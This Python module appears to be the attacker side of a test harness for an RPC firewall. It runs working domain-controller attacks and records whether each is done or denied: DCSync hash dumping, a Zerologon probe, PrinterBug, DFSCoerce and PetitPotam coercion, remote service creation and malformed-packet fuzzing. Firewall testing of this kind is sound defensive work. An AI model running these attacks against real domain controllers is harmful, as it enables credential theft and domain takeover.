# SPDX-License-Identifier: Apache-2.0
"""The attacker: impacket's tools, and the attacks that it has no tool for, one after another in one process.

Reads requests from stdin, answers on stdout, one JSON object a line (attacks.py asks). Each attack runs with the protection
that it is told: `encrypt`, encryption by SMB 3 or none; `seal`, RPC with packet privacy or as the tool comes. The outcome is
"done", "denied" (access denied by a fault, which is what the firewall answers with), or "other"; the output tells the rest.
"""
import contextlib
import io
import json
import logging
import os
import random
import runpy
import struct
import sys
import traceback

from impacket import smbconnection
from impacket.dcerpc.v5 import drsuapi, epm, lsat, nrpc, rpcrt, rprn, samr, srvs, transport
from impacket.dcerpc.v5.dtypes import DWORD, NULL, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.smb3structs import SMB2_DIALECT_21, SMB2_DIALECT_30
from impacket.uuid import uuidtup_to_bin

import rawrpc

EXAMPLES = '/usr/share/doc/python3-impacket/examples'
PRIVACY = rpcrt.RPC_C_AUTHN_LEVEL_PKT_PRIVACY
ACCESS_DENIED = 5
DENIED_WORDS = ('rpc_s_access_denied', 'DCERPC Runtime Error: code: 0x5')
NETDFS = ('4fc742e0-4a10-11cf-8273-00aa004ae673', '3.0')
EFSRPC = ('c681d488-d850-11d0-8c52-00c04fd90f7e', '1.0')


# ---- How every tool talks ----

class Manner:
    encrypt = False
    seal = False


_connect_smb = smbconnection.SMBConnection.__init__
_bind = rpcrt.DCERPC_v5.bind
_request = rpcrt.DCERPC_v5.request


def connect_smb(self, *positional, **named):
    # impacket encrypts whenever the server can, which no server can below SMB 3.
    named['preferredDialect'] = SMB2_DIALECT_30 if Manner.encrypt else SMB2_DIALECT_21
    _connect_smb(self, *positional, **named)


def bind(self, *positional, **named):
    if Manner.seal and not getattr(self, 'anonymous', False):
        self.set_auth_level(PRIVACY)
    return _bind(self, *positional, **named)


def request(self, call, *positional, **named):
    """Samba wants the entry of the schema's own version at the end of a prefix table; secretsdump leaves it out."""
    if isinstance(call, drsuapi.DRSGetNCChanges):
        table = call['pmsgIn']['V8']['PrefixTableDest']
        entries = table['pPrefixEntry']
        if not any(entry['ndx'] == 0 and entry['prefix']['length'] == 21 for entry in entries):
            entry = drsuapi.PrefixTableEntry()
            entry['ndx'] = 0
            entry['prefix']['length'] = 21
            entry['prefix']['elements'] = [b'\xff'] + [b'\0'] * 20
            entries.append(entry)
        table['PrefixCount'] = len(entries)
    return _request(self, call, *positional, **named)


smbconnection.SMBConnection.__init__ = connect_smb
rpcrt.DCERPC_v5.bind = bind
rpcrt.DCERPC_v5.request = request


# ---- The attacks ----

class Target:
    def __init__(self, asked):
        self.address = asked['address']
        self.domain, self.user, self.password = asked['domain'], asked['user'], asked['password']

    @property
    def url(self):
        return f'{self.domain}/{self.user}:{self.password}@{self.address}'

    def pipe(self, name, interface):
        wire = transport.DCERPCTransportFactory(f'ncacn_np:{self.address}[\\pipe\\{name}]')
        wire.set_credentials(self.user, self.password, self.domain)
        dce = wire.get_dce_rpc()
        dce.connect()
        dce.bind(interface)
        return dce

    def tcp(self, interface):
        dce = transport.DCERPCTransportFactory(epm.hept_map(self.address, interface, protocol='ncacn_ip_tcp')).get_dce_rpc()
        dce.anonymous = True
        dce.connect()
        dce.bind(interface)
        return dce


def example(name, *arguments):
    def attack(target, words):
        # A tool ends with sys.exit, and keeps its logging handler on the output of its first run.
        logging.getLogger().handlers.clear()
        sys.argv = [name + '.py', *(word.format(target=target, **words) for word in arguments)]
        runpy.run_path(f'{EXAMPLES}/{name}.py', run_name='__main__')
    return attack


def sessions(target, _):
    answer = srvs.hNetrSessionEnum(target.pipe('srvsvc', srvs.MSRPC_UUID_SRVS), NULL, NULL, 1)
    for session in answer['InfoStruct']['SessionInfo']['Level1']['Buffer']:
        print('session', session['sesi1_cname'], session['sesi1_username'])


def shares(target, _):
    answer = srvs.hNetrShareEnum(target.pipe('srvsvc', srvs.MSRPC_UUID_SRVS), 1)
    for share in answer['InfoStruct']['ShareInfo']['Level1']['Buffer']:
        print('share', share['shi1_netname'])


def zerologon(target, words):
    """As often as is harmless: each try has a chance of one in 256, on a server that takes a session key of zeros."""
    dce = target.tcp(nrpc.MSRPC_UUID_NRPC)
    name = words['host'] + '\0'
    for _ in range(5):
        nrpc.hNetrServerReqChallenge(dce, NULL, name, b'\0' * 8)
        try:
            nrpc.hNetrServerAuthenticate3(dce, NULL, words['host'] + '$\0',
                                          nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel, name, b'\0' * 8,
                                          0x212fffff)
            print('a session of zeros')
        except nrpc.DCERPCSessionError as error:
            print('NetrServerAuthenticate3: %x' % error.get_error_code())


def printerbug(target, words):
    dce = target.pipe('spoolss', rprn.MSRPC_UUID_RPRN)
    printer = rprn.hRpcOpenPrinter(dce, '\\\\%s\0' % target.address)['pHandle']
    try:
        rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(dce, printer, rprn.PRINTER_CHANGE_ADD_JOB,
                                                            pszLocalMachine='\\\\%s\0' % words['listener'])
    except rprn.DCERPCSessionError as error:
        print('RpcRemoteFindFirstPrinterChangeNotificationEx: %x' % error.get_error_code())


class NetrDfsRemoveStdRoot(NDRCALL):
    opnum = 13
    structure = (('ServerName', WSTR), ('RootShare', WSTR), ('ApiFlags', DWORD))


class NetrDfsRemoveStdRootResponse(NDRCALL):
    structure = (('ErrorCode', DWORD),)


def dfscoerce(target, words):
    dce = target.pipe('netdfs', uuidtup_to_bin(NETDFS))
    call = NetrDfsRemoveStdRoot()
    call['ServerName'] = words['listener'] + '\0'
    call['RootShare'] = 'share\0'
    call['ApiFlags'] = 0
    dce.call(call.opnum, call)
    answer = dce.recv()     # the whole of it, or the exception that its fault is
    print('NetrDfsRemoveStdRoot:', struct.unpack('<I', answer[-4:])[0])


def whoami(target, _):
    dce = target.pipe('lsarpc', lsat.MSRPC_UUID_LSAT)
    call = lsat.LsarGetUserName()
    call['SystemName'] = NULL
    call['UserName'] = NULL
    call['DomainName'] = NULL
    dce.request(call).dump()


def logon(target, _):
    """A logon to the RPC server itself, with no SMB in between."""
    wire = transport.DCERPCTransportFactory(epm.hept_map(target.address, samr.MSRPC_UUID_SAMR, protocol='ncacn_ip_tcp'))
    wire.set_credentials(target.user, target.password, target.domain)
    dce = wire.get_dce_rpc()
    dce.set_auth_level(PRIVACY)
    dce.connect()
    dce.bind(samr.MSRPC_UUID_SAMR)
    samr.hSamrConnect(dce)


def malformed(target, _):
    """Fragments with bytes changed, over a pipe; each on a pipe of its own, since the server closes most."""
    randomness = random.Random(1)
    good = rawrpc.bind((0, 'lsarpc')), rawrpc.requests(44, b'\0' * 40)
    wire = transport.DCERPCTransportFactory(f'ncacn_np:{target.address}[\\pipe\\lsarpc]')
    wire.set_credentials(target.user, target.password, target.domain)
    wire.connect()
    smb, tree = wire.get_smb_connection(), wire.get_smb_connection().connectTree('IPC$')
    for _ in range(200):
        pipe = smb.openFile(tree, 'lsarpc', desiredAccess=3)
        for piece in good:
            data = bytearray(piece)
            for _ in range(randomness.choice((0, 1, 2, 8))):
                data[randomness.randrange(len(data))] = randomness.randrange(256)
            with contextlib.suppress(smbconnection.SessionError):
                smb.writeFile(tree, pipe, bytes(data))
        with contextlib.suppress(smbconnection.SessionError):
            smb.closeFile(tree, pipe)


def petitpotam(target, _):
    target.pipe('lsarpc', uuidtup_to_bin(EFSRPC))


ATTACKS = {
    'dcsync': example('secretsdump', '-just-dc-user', '{target.domain}/krbtgt', '{target.url}'),
    'dcsync-all': example('secretsdump', '-just-dc', '{target.url}'),
    'samrdump': example('samrdump', '{target.url}'),
    'lookupsid': example('lookupsid', '{target.url}', '600'),
    'addcomputer': example('addcomputer', '-computer-name', '{computer}$', '-computer-pass', 'C0mputer.Pass!',
                           '-dc-ip', '{target.address}', '-dc-host', '{target.address}',
                           '{target.domain}/{target.user}:{target.password}'),
    'services': example('services', '{target.url}', 'list'),
    'service-create': example('services', '{target.url}', 'create', '-name', 'rpcfw', '-display', 'rpcfw',
                              '-path', 'rpcfw.exe'),
    'reg': example('reg', '{target.url}', 'query', '-keyName', 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion'),
    'sessions': sessions,
    'shares': shares,
    'zerologon': zerologon,
    'printerbug': printerbug,
    'dfscoerce': dfscoerce,
    'petitpotam': petitpotam,
    'whoami': whoami,
    'logon': logon,
    'malformed': malformed,
}


def run(asked):
    Manner.encrypt, Manner.seal = asked['encrypt'], asked['seal']
    # Not StringIO: some tools look for its encoding.
    raw = io.BytesIO()
    output = io.TextIOWrapper(raw, encoding='utf-8', errors='replace', write_through=True)
    with contextlib.redirect_stdout(output), contextlib.redirect_stderr(output):
        outcome = 'done'
        try:
            ATTACKS[asked['attack']](Target(asked), asked['words'])
        except SystemExit:
            pass
        except Exception as error:      # noqa: BLE001  (whatever a tool dies of is its outcome)
            print(error)
            outcome = 'other'
            if not isinstance(error, rpcrt.DCERPCException):
                traceback.print_exc()
    text = raw.getvalue().decode('utf-8', 'replace')
    if any(word in text for word in DENIED_WORDS):
        outcome = 'denied'
    return {'outcome': outcome, 'output': text}


def main():
    os.chdir('/run')    # secretsdump leaves files where it stands
    answers = os.fdopen(os.dup(1), 'w')
    for line in sys.stdin:
        print(json.dumps(run(json.loads(line))), file=answers, flush=True)


if __name__ == '__main__':
    main()
